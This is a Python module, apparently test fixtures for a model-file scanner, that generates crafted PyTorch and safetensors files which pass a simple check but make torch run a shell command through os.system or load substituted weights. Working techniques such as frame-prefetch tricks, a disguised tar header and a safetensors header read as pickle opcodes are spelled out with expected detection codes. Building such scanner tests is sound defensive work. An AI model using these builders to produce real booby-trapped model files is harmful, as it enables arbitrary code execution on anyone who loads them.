"""Torch files that pass a check and then have another meaning to torch, which reads them differently.

Each holds good weights for a simple reader, and a command or other weights for torch.
"""

from __future__ import annotations

import io
import json
import struct
import tarfile
from collections.abc import Callable, Mapping

from .torch_files import MAGIC, PROTOCOL, Made, as_legacy, as_zip, call, name, ordered, several, text

PREFETCHED = 300_000
"""Bytes: more than Python's unpickler looks ahead, so that it skips a frame of so many."""
SKIP = ord("C")
"""The instruction for short byte strings; the next byte is their length."""
MOST_SKIPPED = 128
"""Bytes of one such instruction in JSON text, in which each byte is a character."""
OTHER = "999"
"""Key of the storage with the other weights."""
OTHER_NUMBER = struct.pack("<f", 0.77)
REBUILT = name("torch._utils", "_rebuild_tensor_v2")


def command(shell: str) -> bytes:
    """The instructions that have it run."""
    return call(name("os", "system"), text(shell))


def beyond_its_end(good: Made, shell: str) -> bytes:
    """Put the first pickle in a frame that holds all of a good file and more: a new unpickler, such as torch makes for
    each pickle, continues behind the frame; one that reads on in its buffer does not."""
    first = MAGIC[2:]
    shown = as_legacy(good)[len(MAGIC) :]
    frame = (first + shown).ljust(PREFETCHED, b"\0")
    behind = PROTOCOL + b"\x80\x02}." + b"\x80\x02" + command(shell) + b"." + b"\x80\x02]."
    return b"\x80\x04\x95" + struct.pack("<Q", len(frame)) + frame + behind


def tar_within(good: Made, shell: str) -> bytes:
    """A good file that begins with a tar header without the word "ustar": torch looks for a tar first."""
    skipped = b"\x80\x02B" + struct.pack("<I", 505)
    shown = b"0" + MAGIC[2:] + as_legacy(good)[len(MAGIC) :]
    members = {"storages": b"\x80\x02" + command(shell) + b".", "tensors": b"\x80\x02K\0.", "pickle": b"\x80\x02N."}
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for label, content in (("first", shown), *members.items()):
            one = tarfile.TarInfo(label)
            one.size = len(content)
            archive.addfile(one, io.BytesIO(content))
    data = bytearray(target.getvalue())
    data[: len(skipped)] = skipped
    data[257:265] = bytes(8)  # no "ustar" and no version: tarfile does not check them
    data[148:156] = b" " * 8
    data[148:156] = b"%06o\0 " % sum(data[:512])
    return bytes(data)


def changed_afterwards(good: Made, _: str) -> bytes:
    """Give the last tensor a state, which torch takes for other weights of the same shape."""
    shown, last = good.code[:-2], list(good.storages)[-1]
    other = shown[shown.rindex(REBUILT) :].replace(text(last), text(OTHER))
    state = several(other, b"N", ordered(), b"\x89", b"N")
    weights = good.storages[last]
    return as_zip(Made(shown + state + b"bu.", {**good.storages, OTHER: (OTHER_NUMBER * len(weights))[: len(weights)]}))


def safetensors_first(label: str, count: int, shell: str) -> bytes:
    """A whole safetensors file with one tensor of `count` numbers, which an unpickler takes for a pickle.

    The header's length is an instruction that skips what follows, up to a text of the metadata; further ones lead from
    there to the tensor's bytes, which are the command.
    """
    tensor = json.dumps({label: {"dtype": "F32", "shape": [count], "data_offsets": [0, 4 * count]}})
    before = tensor[:-1] + ',"__metadata__":{"":"'
    length = SKIP + (6 + len(before) << 8)
    sizes, rest = [], length - len(before)
    while rest > 2 * MOST_SKIPPED:
        sizes.append(MOST_SKIPPED)
        rest -= MOST_SKIPPED
    sizes += [rest // 2 - 1, rest - rest // 2 + 1]
    text = "".join(("C" + chr(size - 2)).ljust(size, "~") for size in sizes)[:-3]
    header = f'{before}{text}"}}}}'
    assert len(header) == length, "a text of JSON"
    return struct.pack("<Q", length) + header.encode() + (command(shell) + b".").ljust(4 * count, b"\0")


HOSTILE: Mapping[str, Callable[[Made, str], bytes]] = {
    "beyond its end": beyond_its_end,
    "tar within": tar_within,
    "changed afterwards": changed_afterwards,
}
EXPECTED_CODES: Mapping[str, str] = {
    "beyond its end": "bad-pickle",
    "tar within": "old-torch",
    "changed afterwards": "bad-pickle",
}
